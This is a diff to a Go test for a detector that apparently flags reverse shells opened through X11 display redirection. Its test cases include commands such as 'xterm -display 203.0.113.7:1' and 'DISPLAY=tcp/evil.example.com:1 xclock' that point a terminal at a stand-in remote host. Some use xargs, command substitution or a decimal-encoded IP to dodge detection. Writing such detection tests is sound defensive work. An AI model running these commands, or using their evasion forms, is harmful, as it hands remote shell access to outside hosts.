@@ -66,6 +66,10 @@ func TestReverseShellX11Display(t *testing.T) {
 		cmdCase("DISPLAY=tcp/evil.example.com:1 xclock", true),
 		cmdCase("gnome-terminal --display=203.0.113.7:0", true),
 		cmdCase(`sh -c "xterm -display 198.51.100.4:1"`, true),
+		// Words printed into an X client's arguments reach it.
+		cmdCase("echo -display 203.0.113.7:1 | xargs xterm", true),
+		cmdCase("xterm $(echo -display 203.0.113.7:1)", true),
+		cmdCase("xterm -display 3405803783:0", true), // 203.0.113.7 as one number
 		cmdCase("xterm", false),
 		cmdCase("DISPLAY=:0 xclock", false),
 		cmdCase("xterm -display :1", false),
@@ -77,6 +81,13 @@ func TestReverseShellX11Display(t *testing.T) {
 		cmdCase("DISPLAY=/private/tmp/com.apple.launchd.abc/org.xquartz:0 xterm", false),
 		cmdCase("echo DISPLAY=203.0.113.7:0", false),
 		cmdCase("grep -rn -- -display docs/", false),
+		// Printing or testing a display name opens nothing.
+		cmdCase("echo usage: xclock -display otherhost.example:0", false),
+		cmdCase("printf '%s\\n' -display 203.0.113.7:1", false),
+		cmdCase(`[ "$1" = -display ] && [ -display 0:00 ]`, false),
+		// A number the resolver reads as this host.
+		cmdCase("xterm -display 0:0", false),
+		cmdCase("xterm -display 2130706433:0", false),
 	})
 }
 
